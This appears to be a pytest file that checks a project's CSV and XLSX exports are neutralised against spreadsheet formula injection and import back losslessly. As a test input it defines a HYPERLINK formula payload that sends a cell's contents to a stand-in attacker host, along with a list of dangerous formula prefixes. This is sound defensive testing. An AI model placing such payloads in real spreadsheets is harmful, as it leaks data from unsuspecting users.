"""Exports are inert data (issue 12 item 2): no live formula in XLSX, OWASP-escaped CSV,
and export → import a lossless round trip (the importer strips exactly that escaping)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from vigie_industrie.programme import crud, importer, models, spreadsheet
from vigie_industrie.programme.authz import Actor

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")'
DANGEROUS = ["=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tonglet", "\rretour", "'=déjà cité", "''=2"]
SYSTEM = Actor.system("test")


def _mission(store, intitule: str, cause: str = "") -> models.Mission:
    data = crud.RESOURCES["missions"].create.model_validate(
        {"territoire_id": "ti-3212", "phase": 2, "intitule": intitule, "cause": cause,
         "date_debut": "2025-01-01", "duree_jours": 30})
    with store.transaction() as session:
        return crud.create(session=session, resource="missions", data=data, actor=SYSTEM)


def _missions(store) -> list[tuple[str, str]]:
    with store.session() as s:
        return [(m.intitule, m.cause) for m in s.scalars(select(models.Mission).order_by(models.Mission.id))]


@pytest.mark.parametrize("title", [HYPERLINK, "=1+1"])
def test_xlsx_cells_are_values_never_formulas(store, tmp_path, title):
    _mission(store, title, cause="=A1")
    path = tmp_path / "missions.xlsx"
    importer.export_rows(store=store, resource="missions", actor=SYSTEM, path=path)
    ws = openpyxl.load_workbook(path).active  # data_only=False: formulas would show as data_type "f"
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert title in [c.value for c in cells] and "=A1" in [c.value for c in cells]
    with zipfile.ZipFile(path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_every_dangerous_first_character_is_neutralised():
    for first in "=+-@\t\r":
        assert spreadsheet.escape_cell(first + "1+1") == "'" + first + "1+1"


@pytest.mark.parametrize("title", [t for t in DANGEROUS if not t[0].isspace()] + [HYPERLINK])
def test_csv_cells_with_a_dangerous_first_character_are_quoted(store, tmp_path, title):
    _mission(store, title)
    path = tmp_path / "missions.csv"
    importer.export_rows(store=store, resource="missions", actor=SYSTEM, path=path)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[0]["intitule"] == "'" + title
    assert rows[0]["duree_jours"] == "30"  # numbers are not text: left alone


def test_csv_safe_text_is_left_alone(store, tmp_path):
    _mission(store, "Mission test ordinaire", cause="a=b")
    path = tmp_path / "missions.csv"
    importer.export_rows(store=store, resource="missions", actor=SYSTEM, path=path)
    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert (row["intitule"], row["cause"]) == ("Mission test ordinaire", "a=b")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_is_lossless(store, tmp_path, suffix):
    titles = DANGEROUS + [HYPERLINK, "Mission test ordinaire", "'apostrophe en tête"]
    for t in titles:
        _mission(store, t.strip() or t, cause=t)  # optional field with the same dangerous text
    before = _missions(store)
    path = tmp_path / f"missions{suffix}"
    importer.export_rows(store=store, resource="missions", actor=SYSTEM, path=path)
    report = importer.import_rows(store=store, resource="missions", rows=importer.read_table(path), actor=SYSTEM)
    assert report["ecrit"], report
    after = _missions(store)
    assert after[len(before):] == before


def test_escaping_is_a_bijection():
    for text in DANGEROUS + [HYPERLINK, "", "a", "'", "''", "'a", "=", "'='"]:
        assert spreadsheet.unescape_cell(spreadsheet.escape_cell(text)) == text


def test_a_live_formula_in_an_imported_xlsx_is_reported_not_blanked(store, tmp_path):
    path = tmp_path / "missions.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["territoire_id", "phase", "intitule", "cause", "date_debut", "duree_jours"])
    ws.append(["ti-3212", 2, "Mission test", "=A1", "2025-01-01", 30])  # a formula without a cached value
    wb.save(path)
    report = importer.import_rows(store=store, resource="missions", rows=importer.read_table(path), actor=SYSTEM,
                                  dry_run=True)
    assert report["acceptees"] == 0
    assert "cause" in report["rejetees"][0]["erreurs"][0] and "formule" in report["rejetees"][0]["erreurs"][0]
